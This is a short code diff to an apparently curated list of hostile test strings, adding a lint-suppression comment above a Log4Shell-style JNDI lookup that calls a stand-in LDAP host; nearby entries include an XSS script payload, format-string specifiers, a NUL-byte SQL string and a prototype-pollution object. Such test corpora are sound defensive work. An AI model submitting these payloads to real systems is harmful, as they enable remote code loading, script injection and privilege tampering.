@@ -26,6 +26,7 @@ const CURATED = [
   "E'\\x00' || chr(0)",
   '\u0000 NUL in the middle \u0000',
   '%s%s%s%n%x %d',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the attack
   '${jndi:ldap://example.invalid/a}',
   '<script>alert(1)</script><img src=x onerror=alert(1)>',
   '{"__proto__": {"admin": true}}',
